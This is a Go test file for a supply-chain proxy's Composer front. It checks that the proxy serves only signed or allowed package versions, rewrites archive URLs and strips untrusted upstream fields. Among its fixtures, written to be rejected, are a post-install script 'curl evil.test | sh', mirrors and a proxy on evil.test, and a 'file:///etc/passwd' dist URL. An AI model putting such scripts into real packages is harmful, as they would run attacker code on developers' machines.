package composer

import (
	"fmt"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sigilproxy/sigil/policy"
	"github.com/sigilproxy/sigil/proxy/internal/front"
	"github.com/sigilproxy/sigil/proxy/internal/fronttest"
	"github.com/sigilproxy/sigil/release"
)

// testVersion is one upstream version of acme/foo as a repository writes
// it before minification.
func testVersion(v, ref string) map[string]any {
	return map[string]any{
		"name":               "acme/foo",
		"version":            v,
		"version_normalized": strings.TrimPrefix(v, "v") + ".0",
		"description":        "Foo",
		"license":            []any{"MIT"},
		"require":            map[string]any{"php": ">=8.1", "Acme/Bar": "^1.0"},
		"source":             map[string]any{"type": "git", "url": "https://git.test/acme/foo.git", "reference": ref, "mirrors": []any{map[string]any{"url": "https://evil.test/%package%", "preferred": true}}},
		"dist":               map[string]any{"type": "zip", "url": "https://archives.test/acme/foo/zipball/" + ref, "reference": ref, "shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		"transport-options":  map[string]any{"http": map[string]any{"proxy": "tcp://evil.test:1"}},
		"autoload":           map[string]any{"psr-4": map[string]any{"Acme\\Foo\\": "src/"}},
	}
}

func minifiedDoc(pkg string, versions []map[string]any) map[string]any {
	return map[string]any{
		"packages": map[string]any{pkg: minifyForTest(versions)},
		"minified": "composer/2.0",
	}
}

// servedVersions decodes a served p2 document as Composer would: it takes
// packages[pkg] and expands it when "minified" says so.
func servedVersions(t testing.TB, body []byte, pkg string) ([]map[string]any, map[string]any) {
	t.Helper()
	top := fronttest.DecodeObject(t, body)
	d, err := parseP2(body, pkg)
	if err != nil {
		t.Fatalf("served document does not parse: %v", err)
	}
	vs := make([]object, len(d.entries))
	for i, e := range d.entries {
		vs[i] = objectOf(e.members)
	}
	return objectsToAny(t, vs), top
}

func setupFoo(r *rig) {
	r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", []map[string]any{
		testVersion("v2.0.0", "c2"), testVersion("v1.1.0", "c11"), testVersion("v1.0.0", "c10"),
	}))
}

func TestP2FilterEnforce(t *testing.T) {
	r := newRig(t)
	setupFoo(r)
	r.checker.set("v2.0.0", policy.Block, false, "acme/foo@v2.0.0: no logged statement signed by a valid key")
	r.checker.set("v1.1.0", policy.Warn, false, "acme/foo@v1.1.0: unsigned")
	resp, body := r.Get("/composer/p2/acme/foo.json")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("Content-Type %q", ct)
	}
	if r.checker.Calls != 1 {
		t.Errorf("checker called %d times, want once per document", r.checker.Calls)
	}
	facts := r.checker.Facts[0]
	if len(facts) != 3 {
		t.Fatalf("facts %+v", facts)
	}
	wantManifest, err := release.MetadataManifestDigest(release.Composer, []byte(`{"require":{"php":">=8.1","Acme/Bar":"^1.0"},"name":"acme/foo","autoload":{"psr-4":{"Acme\\Foo\\":"src/"}}}`))
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range facts {
		ref := []string{"c2", "c11", "c10"}[i]
		if f.Ecosystem != release.Composer || f.Package != "acme/foo" || f.Source != ref ||
			f.ArchiveURL != "https://archives.test/acme/foo/zipball/"+ref || f.Manifest != wantManifest || f.ManifestErr != nil {
			t.Errorf("facts[%d] = %+v", i, f)
		}
	}
	if facts[0].Version != "v2.0.0" {
		t.Errorf("version %q: must be the registry's string exactly", facts[0].Version)
	}

	vs, top := servedVersions(t, body, "acme/foo")
	if top["minified"] != "composer/2.0" {
		t.Errorf("not re-minified: %v", top["minified"])
	}
	if len(vs) != 2 || vs[0]["version"] != "v1.1.0" || vs[1]["version"] != "v1.0.0" {
		t.Fatalf("served versions %v", vs)
	}
	// v1.1.0: warned, source not verified → dropped.
	if _, ok := vs[0]["source"]; ok {
		t.Errorf("source kept without KeepSource: %v", vs[0]["source"])
	}
	// v1.0.0: allowed with KeepSource → source kept, mirrors gone.
	src, _ := vs[1]["source"].(map[string]any)
	if src["reference"] != "c10" || src["mirrors"] != nil {
		t.Errorf("source %v", vs[1]["source"])
	}
	for _, v := range vs {
		for _, k := range []string{"version_normalized", "transport-options"} {
			if _, ok := v[k]; ok {
				t.Errorf("%s still served", k)
			}
		}
		if v["name"] != "acme/foo" || v["description"] != "Foo" || v["autoload"] == nil {
			t.Errorf("fields lost: %v", v)
		}
		dist := v["dist"].(map[string]any)
		ref := src["reference"]
		if v["version"] == "v1.1.0" {
			ref = "c11"
		}
		want := map[string]any{
			"type":      "zip",
			"reference": ref,
			"url":       r.Srv.URL + "/composer/dists/acme/foo/" + v["version"].(string) + "/" + ref.(string) + ".zip",
		}
		if !reflect.DeepEqual(dist, want) {
			t.Errorf("dist %v, want %v", dist, want)
		}
	}
	warnings, _ := top["warnings"].([]any)
	if len(warnings) != 2 {
		t.Fatalf("warnings %v", top["warnings"])
	}
	for i, want := range []string{"sigil blocked: acme/foo@v2.0.0: no logged statement", "sigil allowed with a warning: acme/foo@v1.1.0: unsigned"} {
		w := warnings[i].(map[string]any)
		if !strings.HasPrefix(w["message"].(string), want) || w["versions"] != "*" {
			t.Errorf("warning %d = %v, want %q", i, w, want)
		}
	}
	hv := resp.Header.Get("X-Sigil-Verdict")
	if !strings.HasPrefix(hv, "enforce; blocked=1; warned=1; sigil blocked: acme/foo@v2.0.0") {
		t.Errorf("X-Sigil-Verdict %q", hv)
	}
}

func TestP2Warn(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Mode = policy.ModeWarn })
	setupFoo(r)
	// In warn mode the checker turns every Block into Warn.
	r.checker.set("v2.0.0", policy.Warn, false, "acme/foo@v2.0.0: archive tree does not match the statement")
	resp, body := r.Get("/composer/p2/acme/foo.json")
	vs, top := servedVersions(t, body, "acme/foo")
	if len(vs) != 3 {
		t.Fatalf("warn mode served %d versions", len(vs))
	}
	warnings := top["warnings"].([]any)
	if len(warnings) != 1 || !strings.Contains(warnings[0].(map[string]any)["message"].(string), "archive tree does not match") {
		t.Errorf("warnings %v", warnings)
	}
	if hv := resp.Header.Get("X-Sigil-Verdict"); !strings.HasPrefix(hv, "warn; blocked=0; warned=1; ") {
		t.Errorf("X-Sigil-Verdict %q", hv)
	}
}

// TestP2UnsignedWarnOneWarning: under unsigned = warn, a package that is
// only unsigned gets one warning line, in its own p2 file (which Composer
// reads whenever it reads the ~dev file), not one per version, and none in
// the ~dev file; a real problem of a version beside it gets its own line.
func TestP2UnsignedWarnOneWarning(t *testing.T) {
	log, lines := fronttest.CaptureLog()
	r := newRig(t, func(c *Config) { c.Logger = log })
	setupFoo(r)
	r.up.Set(upstreamBase+"/p2/acme/foo~dev.json", minifiedDoc("acme/foo", []map[string]any{testVersion("dev-main", "d1"), testVersion("dev-next", "d2")}))
	for _, v := range []string{"v2.0.0", "v1.1.0", "v1.0.0", "dev-main", "dev-next"} {
		r.checker.Set(v, fronttest.UnsignedWarn(release.Composer, "acme/foo", v))
	}
	const want = "sigil allowed with a warning: acme/foo: the package is unsigned: no key was ever registered for acme or acme/foo; served under the unsigned = warn policy"
	messages := func(file string) []string {
		t.Helper()
		resp, body := r.Get("/composer/p2/" + file)
		if resp.StatusCode != 200 {
			t.Fatalf("%s: %d %s", file, resp.StatusCode, body)
		}
		_, top := servedVersions(t, body, "acme/foo")
		var msgs []string
		for _, w := range top["warnings"].([]any) {
			msgs = append(msgs, w.(map[string]any)["message"].(string))
		}
		return msgs
	}
	if got := messages("acme/foo.json"); !reflect.DeepEqual(got, []string{want}) {
		t.Errorf("acme/foo.json warnings:\n%q\nwant one:\n%q", got, want)
	}
	resp, body := r.Get("/composer/p2/acme/foo~dev.json")
	if _, top := servedVersions(t, body, "acme/foo"); top["warnings"] != nil {
		t.Errorf("acme/foo~dev.json warnings: %v", top["warnings"])
	}
	if hv := resp.Header.Get("X-Sigil-Verdict"); hv != "enforce; blocked=0; warned=2; "+want {
		t.Errorf("~dev X-Sigil-Verdict %q", hv)
	}

	// A real problem is told beside the notice.
	r.checker.set("v2.0.0", policy.Block, false, "acme/foo@v2.0.0: the release log could not be checked")
	if got := messages("acme/foo.json"); !reflect.DeepEqual(got, []string{"sigil blocked: acme/foo@v2.0.0: the release log could not be checked", want}) {
		t.Errorf("acme/foo.json warnings with a blocked version: %q", got)
	}
	if l := lines.String(); l != "" {
		t.Errorf("the front logged:\n%s", l)
	}
}

func TestP2AllAllowedHasNoNotices(t *testing.T) {
	r := newRig(t)
	setupFoo(r)
	resp, body := r.Get("/composer/p2/acme/foo.json")
	_, top := servedVersions(t, body, "acme/foo")
	if _, ok := top["warnings"]; ok || resp.Header.Get("X-Sigil-Verdict") != "" {
		t.Errorf("notices without a reason: %v %q", top["warnings"], resp.Header.Get("X-Sigil-Verdict"))
	}
}

func TestP2Conditional(t *testing.T) {
	r := newRig(t)
	setupFoo(r)
	resp, _ := r.Get("/composer/p2/acme/foo.json")
	etag, lm := resp.Header.Get("ETag"), resp.Header.Get("Last-Modified")
	if etag == "" || lm == "" {
		t.Fatalf("validators missing: %v", resp.Header)
	}
	// Composer revalidates with If-Modified-Since.
	resp, body := r.Get("/composer/p2/acme/foo.json", "If-Modified-Since: "+lm)
	if resp.StatusCode != 304 || len(body) != 0 {
		t.Errorf("If-Modified-Since: status %d", resp.StatusCode)
	}
	resp, _ = r.Get("/composer/p2/acme/foo.json", "If-None-Match: "+etag)
	if resp.StatusCode != 304 {
		t.Errorf("If-None-Match: status %d", resp.StatusCode)
	}

	// A verdict changes (a revocation): the bytes, the ETag and the
	// Last-Modified move, and the old validators no longer match.
	r.checker.set("v1.0.0", policy.Block, false, "acme/foo@v1.0.0: signed only by a revoked key")
	resp, _ = r.Get("/composer/p2/acme/foo.json", "If-Modified-Since: "+lm)
	if resp.StatusCode != 200 {
		t.Fatalf("after a verdict change, If-Modified-Since: status %d", resp.StatusCode)
	}
	if resp.Header.Get("ETag") == etag {
		t.Errorf("ETag did not change with the verdict")
	}
	lm2, _ := time.Parse(time.RFC1123, resp.Header.Get("Last-Modified"))
	lm1, _ := time.Parse(time.RFC1123, lm)
	if !lm2.After(lm1) {
		t.Errorf("Last-Modified %v not after %v", lm2, lm1)
	}
	resp, _ = r.Get("/composer/p2/acme/foo.json", "If-None-Match: "+etag)
	if resp.StatusCode != 200 {
		t.Errorf("old ETag: status %d", resp.StatusCode)
	}
}

func TestP2Shapes(t *testing.T) {
	for _, tc := range []struct {
		name, doc string
		status    int
		versions  []string
		msg       string
	}{
		{
			name:     "not minified, object list, [] maps",
			doc:      `{"packages":{"acme/foo":{"x":{"name":"acme/foo","version":"1.0.0","require":[],"dist":{"type":"zip","url":"https://a.test/1.zip","reference":"r1"}},"y":{"name":"Acme/Foo","version":"0.9.0","source":[],"dist":[]}}}}`,
			status:   200,
			versions: []string{"1.0.0", "0.9.0"},
		},
		{
			name:     "other packages ignored",
			doc:      `{"packages":{"evil/x":[{"name":"evil/x","version":"1.0.0"}],"acme/foo":[{"name":"acme/foo","version":"1.0.0"}]}}`,
			status:   200,
			versions: []string{"1.0.0"},
		},
		{
			name:     "entry naming another package, entry without version",
			doc:      `{"packages":{"acme/foo":[{"name":"evil/x","version":"1.0.0"},{"name":"acme/foo","version":2},{"name":"acme/foo","version":"3.0.0"}]}}`,
			status:   200,
			versions: []string{"3.0.0"},
		},
		{name: "packages is []", doc: `{"packages":[]}`, status: 200},
		{name: "malformed", doc: `{"packages":{"acme/foo":[{"name":"acme/foo",}]}}`, status: 502, msg: "malformed JSON"},
		{name: "entry is a string", doc: `{"packages":{"acme/foo":["1.0.0"]},"minified":"composer/2.0"}`, status: 502, msg: "packages[\"acme/foo\"][0]"},
		{name: "list is a string", doc: `{"packages":{"acme/foo":"x"}}`, status: 502, msg: "list is expected"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRig(t)
			r.up.Set(upstreamBase+"/p2/acme/foo.json", tc.doc)
			resp, body := r.Get("/composer/p2/acme/foo.json")
			if resp.StatusCode != tc.status {
				t.Fatalf("status %d: %s", resp.StatusCode, body)
			}
			if tc.status != 200 {
				if w, _ := fronttest.DecodeObject(t, body)["warning"].(string); !strings.Contains(w, tc.msg) {
					t.Errorf("warning %q does not contain %q", w, tc.msg)
				}
				if r.checker.Calls != 0 || r.store.calls != 0 {
					t.Errorf("a failed document reached the checker (%d) or the served state (%d)", r.checker.Calls, r.store.calls)
				}
				return
			}
			vs, _ := servedVersions(t, body, "acme/foo")
			var got []string
			for _, v := range vs {
				got = append(got, v["version"].(string))
			}
			if strings.Join(got, ",") != strings.Join(tc.versions, ",") {
				t.Errorf("served %v, want %v\n%s", got, tc.versions, body)
			}
		})
	}
}

func TestP2NotFoundAndDev(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/p2/acme/foo~dev.json", `{"packages":{"acme/foo":[{"name":"acme/foo","version":"dev-main","dist":{"type":"zip","url":"https://a.test/main.zip","reference":"abc"}}]},"minified":"composer/2.0"}`)
	resp, body := r.Get("/composer/p2/acme/foo.json")
	if resp.StatusCode != 404 || resp.Header.Get("Content-Type") == "application/json" {
		t.Errorf("unknown: status %d, %q (a JSON 404 would make Composer print a warning)", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if r.checker.Calls != 0 {
		t.Errorf("checker asked about an unknown package")
	}
	resp, body = r.Get("/composer/p2/acme/foo~dev.json")
	vs, _ := servedVersions(t, body, "acme/foo")
	if resp.StatusCode != 200 || len(vs) != 1 {
		t.Fatalf("~dev: %d %s", resp.StatusCode, body)
	}
	if u := vs[0]["dist"].(map[string]any)["url"]; u != r.Srv.URL+"/composer/dists/acme/foo/dev-main/abc.zip" {
		t.Errorf("dev dist %v", u)
	}
}

func TestP2Forward(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Forward = true })
	setupFoo(r)
	_, body := r.Get("/composer/p2/acme/foo.json")
	vs, _ := servedVersions(t, body, "acme/foo")
	dist := vs[0]["dist"].(map[string]any)
	if dist["url"] != "https://archives.test/acme/foo/zipball/c2" {
		t.Errorf("forward mode rewrote the dist URL: %v", dist["url"])
	}
	if _, ok := dist["shasum"]; ok {
		t.Errorf("shasum kept")
	}
}

func TestP2DistURLs(t *testing.T) {
	for _, tc := range []struct {
		version, ref, url, typ string
		want                   string // path after /dists/acme/foo/; "" = no dist served
	}{
		{"1.0.0", "abc", "https://a.test/x", "zip", "1.0.0/abc.zip"},
		{"dev-feature/x+y", "abc", "https://a.test/x", "tar", "dev-feature%2Fx+y/abc.tar"},
		{"1.0.0", "tags/1.0/@123", "https://a.test/x", "zip", "1.0.0/u" + hashPrefix("https://a.test/x") + ".zip"},
		{"1.0.0", "", "https://a.test/x", "zip", "1.0.0/u" + hashPrefix("https://a.test/x") + ".zip"},
		{"1.0.0", "abc", "file:///etc/passwd", "zip", ""},
		{"1.0.0", "abc", "/relative.zip", "zip", ""},
		{"1.0.0", "abc", "https://a.test/x", "path", ""},
	} {
		r := newRig(t)
		v := map[string]any{"name": "acme/foo", "version": tc.version, "dist": map[string]any{"type": tc.typ, "url": tc.url, "reference": tc.ref}}
		r.up.Set(upstreamBase+"/p2/acme/foo.json", map[string]any{"packages": map[string]any{"acme/foo": []any{v}}})
		_, body := r.Get("/composer/p2/acme/foo.json")
		vs, _ := servedVersions(t, body, "acme/foo")
		dist, ok := vs[0]["dist"].(map[string]any)
		if tc.want == "" {
			if ok {
				t.Errorf("%+v: dist served: %v", tc, dist)
			}
			if f := r.checker.Facts[0][0]; f.ArchiveURL != "" {
				t.Errorf("%+v: ArchiveURL %q", tc, f.ArchiveURL)
			}
			continue
		}
		if want := r.Srv.URL + "/composer/dists/acme/foo/" + tc.want; dist["url"] != want {
			t.Errorf("%+v: url %v, want %v", tc, dist["url"], want)
		}
		// And the URL sigil wrote routes back to the same version.
		u, _ := url.Parse(dist["url"].(string))
		d, ok := parseDistPath(strings.TrimPrefix(u.EscapedPath(), "/composer/dists/"))
		if !ok || d.version != tc.version {
			t.Errorf("%+v: served URL parses as %+v %v", tc, d, ok)
		}
	}
}

func hashPrefix(u string) string {
	return distSegment(dist{url: u})[1:]
}

func TestP2NoticeCap(t *testing.T) {
	r := newRig(t)
	var versions []map[string]any
	for i := range 50 {
		v := fmt.Sprintf("1.0.%d", i)
		versions = append(versions, map[string]any{"name": "acme/foo", "version": v})
		r.checker.set(v, policy.Block, false, "acme/foo@"+v+": unsigned and the policy denies unsigned versions")
	}
	r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", versions))
	resp, body := r.Get("/composer/p2/acme/foo.json")
	top := fronttest.DecodeObject(t, body)
	ws := top["warnings"].([]any)
	if len(ws) != maxNotices+1 || !strings.Contains(ws[maxNotices].(map[string]any)["message"].(string), "30 more") {
		t.Errorf("%d warnings, last %v", len(ws), ws[len(ws)-1])
	}
	if n := len(resp.Header.Get("X-Sigil-Verdict")); n > 2100 {
		t.Errorf("header of %d bytes", n)
	}
	// Everything blocked: the package is still there, with no versions,
	// so that Composer reports why rather than "not found".
	if pk := top["packages"].(map[string]any)["acme/foo"].([]any); len(pk) != 0 {
		t.Errorf("versions served: %v", pk)
	}
}

func TestP2PassesAdvisoriesAndNotices(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/p2/acme/foo.json", `{"packages":{"acme/foo":[{"name":"acme/foo","version":"1.0.0"}]},
		"security-advisories":[{"advisoryId":"PKSA-1","affectedVersions":">=1.0,<1.1"}],
		"warnings":[{"message":"upstream says hi","versions":"*"}],"last-modified":"x","unknown":1}`)
	r.checker.set("1.0.0", policy.Warn, false, "acme/foo@1.0.0: unsigned")
	_, body := r.Get("/composer/p2/acme/foo.json")
	top := fronttest.DecodeObject(t, body)
	if _, ok := top["security-advisories"]; !ok {
		t.Errorf("security-advisories dropped")
	}
	if _, ok := top["unknown"]; ok {
		t.Errorf("unknown key passed")
	}
	ws := top["warnings"].([]any)
	if len(ws) != 2 || ws[0].(map[string]any)["message"] != "upstream says hi" {
		t.Errorf("warnings %v", ws)
	}
}

func TestP2UnminifiableFallsBack(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/p2/acme/foo.json", `{"packages":{"acme/foo":[{"name":"acme/foo","version":"2.0.0","description":"x"},{"name":"acme/foo","version":"1.0.0","description":"__unset"}]}}`)
	_, body := r.Get("/composer/p2/acme/foo.json")
	vs, top := servedVersions(t, body, "acme/foo")
	if _, ok := top["minified"]; ok {
		t.Errorf("minified output cannot carry a literal __unset")
	}
	if vs[1]["description"] != "__unset" {
		t.Errorf("value lost: %v", vs[1])
	}
}

// TestP2Concurrent runs many requests at once under -race.
func TestP2Concurrent(t *testing.T) {
	r := newRig(t)
	setupFoo(r)
	done := make(chan struct{})
	for range 16 {
		go func() {
			defer func() { done <- struct{}{} }()
			resp, _ := r.Get("/composer/p2/acme/foo.json")
			if resp.StatusCode != 200 {
				t.Errorf("status %d", resp.StatusCode)
			}
		}()
	}
	for range 16 {
		<-done
	}
}

// TestEntryNameASCIIFold: names are compared after PHP's ASCII-only
// strtolower, not Unicode folding.
func TestEntryNameASCIIFold(t *testing.T) {
	for name, ok := range map[string]bool{"Acme/KFoo": true, "acme/kfoo": true, "acme/\u212afoo": false, "acme/kfoo ": false} {
		v, err := parseMembers([]byte(`{"name":"` + name + `","version":"1.0.0"}`))
		if err != nil {
			t.Fatal(err)
		}
		if e := newEntry("acme/kfoo", v, front.NewManifests(release.Composer)); (e.problem == "") != ok {
			t.Errorf("%q: problem %q", name, e.problem)
		}
	}
}

// TestServedStateNotPerHost: without PublicURL, documents carry the
// request's host, but a client that sends many Host headers must not make
// sigil store a record per header.
func TestServedStateNotPerHost(t *testing.T) {
	keys := &fronttest.ServedKeys{}
	r := newRig(t, func(c *Config) { c.PublicURL, c.Served = "", keys })
	setupFoo(r)
	fronttest.GetWithHosts(t, r.h, "/composer/p2/acme/foo.json", 5000)
	fronttest.GetWithHosts(t, r.h, "/composer/packages.json", 10)
	if n := keys.Len(); n != 2 {
		t.Errorf("5,010 requests with distinct Host headers stored %d served-state records, want 2 (one per document)", n)
	}
}

// TestP2Allowlist: a served version holds identity, the manifest's fields,
// sigil's dist and informational fields; nothing else the upstream sends,
// and no source unless policy keeps it.
func TestP2Allowlist(t *testing.T) {
	r := newRig(t)
	v := testVersion("1.0.0", "c10")
	for k, val := range map[string]any{
		"notification-url":    "https://stats.evil.test/",
		"installation-source": "source",
		"scripts":             map[string]any{"post-install-cmd": "curl evil.test | sh"},
		"require-dev":         map[string]any{"evil/dev": "*"},
		"x-future-field":      true,
		"bin":                 []any{"bin/foo"},
		"type":                "library",
		"extra":               map[string]any{"branch-alias": map[string]any{"dev-main": "1.x-dev"}},
		"funding":             []any{map[string]any{"type": "github", "url": "https://funding.test/"}},
		"abandoned":           "acme/bar",
	} {
		v[k] = val
	}
	r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", []map[string]any{v}))
	r.checker.set("1.0.0", policy.Allow, false)
	_, body := r.Get("/composer/p2/acme/foo.json")
	vs, _ := servedVersions(t, body, "acme/foo")
	if len(vs) != 1 {
		t.Fatalf("served %v", vs)
	}
	var got []string
	for k := range vs[0] {
		got = append(got, k)
	}
	slices.Sort(got)
	want := []string{"abandoned", "autoload", "bin", "description", "dist", "extra", "funding", "license", "name", "require", "type", "version"}
	if !slices.Equal(got, want) {
		t.Errorf("served members %v, want %v", got, want)
	}
}

// TestP2SourceOnlyWhereKept: the same version is served with its source
// (without mirrors) only when the verdict keeps it.
func TestP2SourceOnlyWhereKept(t *testing.T) {
	for _, keep := range []bool{false, true} {
		r := newRig(t)
		r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", []map[string]any{testVersion("1.0.0", "c10")}))
		r.checker.set("1.0.0", policy.Allow, keep)
		_, body := r.Get("/composer/p2/acme/foo.json")
		vs, _ := servedVersions(t, body, "acme/foo")
		src, ok := vs[0]["source"].(map[string]any)
		if ok != keep {
			t.Errorf("keep=%v: source %v", keep, vs[0]["source"])
		}
		if ok && (src["mirrors"] != nil || src["reference"] != "c10") {
			t.Errorf("kept source %v", src)
		}
	}
}

// TestP2PassesFilter: Composer's filter-list entries reach the client.
func TestP2PassesFilter(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/p2/acme/foo.json", `{"packages":{"acme/foo":[{"name":"acme/foo","version":"1.0.0"}]},
		"filter":{"malware":[{"constraint":"1.0.0","reason":"known bad","url":"https://filter.test/1"}]}}`)
	r.checker.set("1.0.0", policy.Allow, false)
	_, body := r.Get("/composer/p2/acme/foo.json")
	top := fronttest.DecodeObject(t, body)
	f, _ := top["filter"].(map[string]any)
	if list, _ := f["malware"].([]any); len(list) != 1 {
		t.Errorf("filter %v", top["filter"])
	}
}
